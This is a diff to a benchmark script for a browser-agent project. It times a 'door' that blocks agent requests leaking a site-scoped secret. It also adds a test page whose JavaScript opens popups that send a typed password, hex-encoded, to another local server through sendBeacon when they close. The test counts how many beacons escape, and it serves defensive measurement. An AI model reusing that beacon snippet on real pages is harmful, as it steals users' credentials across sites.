@@ -8,7 +8,15 @@ slow spell of the machine falls on all of them alike:
 - ``door``: ``approval="deny-risky"``: the context's route, each tab's DevTools interception and WebSocket
   route (the door as it is in the checked-out package);
 - ``door+secret``: the same with a secret scoped to the page's site: every request's URL, headers and body
-  are also searched for its value in every encoding.
+  are also searched for its value in every encoding, and the session-long door (browser/door/live.py) asks
+  of each request whether it carries data to a site outside the secret's own.
+
+Each run has a session of its own (a secret stays live in a session until it closes). Then, after a run:
+
+- ``after the run``: the time the notebook's own ``page.goto`` of a same-site page takes in a session with no
+  secret and in one where a secret is live (the door stays on the session's tabs);
+- ``popup's first moments``: of 20 popups that an opener scripts at once to send the live secret (hex) as a
+  beacon when they close 50 ms later, how many reach the other site (what the door cannot hold yet).
 
 Run against two checkouts to compare the door with an earlier one: ``PYTHONPATH=OTHER python
 benchmarks/door_step.py``. Run: .venv/bin/python benchmarks/door_step.py [--repeats N] [--steps N]
@@ -22,7 +30,9 @@ import itertools
 import statistics
 import sys
 import tempfile
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -63,13 +73,14 @@ async def main(repeats: int, steps: int) -> None:
         url = f"http://127.0.0.1:{port}/t.html"
         per_step: dict[str, list[float]] = {v: [] for v in VARIANTS}
         actions: dict[str, list[float]] = {v: [] for v in VARIANTS}
+        after: dict[str, list[float]] = {"no door": [], "door+secret": []}
         try:
-            async with BrowserSession() as browser:
-                await browser.open(url)
-                by_id = {e.attributes.get("id"): i for i, e in (await browser.snapshot()).elements.items()}
-                indices = [by_id[f"c{i}"] for i in range(steps)]
-                for _ in range(repeats):
-                    for name, variant in VARIANTS.items():
+            for _ in range(repeats):
+                for name, variant in VARIANTS.items():
+                    async with BrowserSession() as browser:
+                        await browser.open(url)
+                        by_id = {e.attributes.get("id"): i for i, e in (await browser.snapshot()).elements.items()}
+                        indices = [by_id[f"c{i}"] for i in range(steps)]
                         script = [agent_output("click_element_by_index", {"index": index}) for index in indices]
                         script.append(agent_output("done", {"text": "ok", "success": True}))
                         kw: dict[str, Any] = {"approval": variant["approval"]}
@@ -88,6 +99,11 @@ async def main(repeats: int, steps: int) -> None:
                         for a, nxt in itertools.pairwise(result.steps):
                             per_step[name].append((nxt.started_at - a.started_at) * 1000)
                         actions[name].extend(s.action_ms for s in result.steps if s.action != "done")
+                        if name != "door":
+                            t = time.perf_counter()
+                            await browser.page.goto(url, wait_until="domcontentloaded")
+                            after[name].append((time.perf_counter() - t) * 1000)
+            popups = await popup_beacons(root, port, 20)
         finally:
             server.shutdown()
     base = statistics.median(per_step["no door"])
@@ -96,6 +112,67 @@ async def main(repeats: int, steps: int) -> None:
         med = statistics.median(per_step[name])
         print(f"  {name:12} {med:7.1f} {med - base:+10.1f} {statistics.median(actions[name]):7.1f}")
     print("  (step = from one step's start to the next's; action = the click itself, its requests judged)")
+    print("after the run, the notebook's own page.goto of the same page (median ms):")
+    plain, live = statistics.median(after["no door"]), statistics.median(after["door+secret"])
+    print(f"  no secret {plain:7.1f}   secret live {live:7.1f}")
+    print(f"popup's first moments: {popups}/20 beacons reached the other site with a secret live")
+
+
+POPUP_PAGE = """<!doctype html><input type=password id=pw><button id=go onclick="pop()">Go</button><script>
+function hex(s) { return Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join(''); }
+function pop() { const w = window.open('/blank.html'), v = document.getElementById('pw').value;
+  w.addEventListener('pagehide', () => w.navigator.sendBeacon(THERE + '/pb/' + hex(v)));
+  setTimeout(() => w.close(), 50); }
+</script>"""
+
+
+async def popup_beacons(root: Path, port: int, tries: int) -> int:
+    """How many of ``tries`` popups' closing beacons reach the other site (``localhost``) while a secret is live."""
+    other, other_port = serve_logged()
+    (root / "blank.html").write_text("<!doctype html><p>popup</p>")
+    (root / "popup.html").write_text(POPUP_PAGE.replace("THERE", f"'http://localhost:{other_port}'"))
+    url = f"http://127.0.0.1:{port}/popup.html"
+    script = [agent_output("input_text", {"index": 0, "text": "<secret>pw</secret>"})]
+    script += [agent_output("click_element_by_index", {"index": 1}) for _ in range(tries)]
+    script.append(agent_output("done", {"text": "ok", "success": True}))
+    try:
+        async with BrowserSession() as browser:
+            agent = PageAgent(
+                model=ScriptedModel(script),
+                browser=browser,
+                start_url=url,
+                screenshots=False,
+                max_steps=tries + 2,
+                approval="deny-risky",
+                secrets={f"http://127.0.0.1:{port}": {"pw": "S3cr3t-Value-42"}},
+            )
+            await agent.run("open the popups")
+            await asyncio.sleep(1.0)
+    finally:
+        other.shutdown()
+    return len(LOGGED)
+
+
+LOGGED: list[str] = []
+
+
+def serve_logged() -> tuple[ThreadingHTTPServer, int]:
+    """The other site: it logs every request it receives."""
+
+    class Logged(BaseHTTPRequestHandler):
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+        def do_POST(self) -> None:
+            LOGGED.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_GET = do_POST
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Logged)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, server.server_address[1]
 
 
 if __name__ == "__main__":
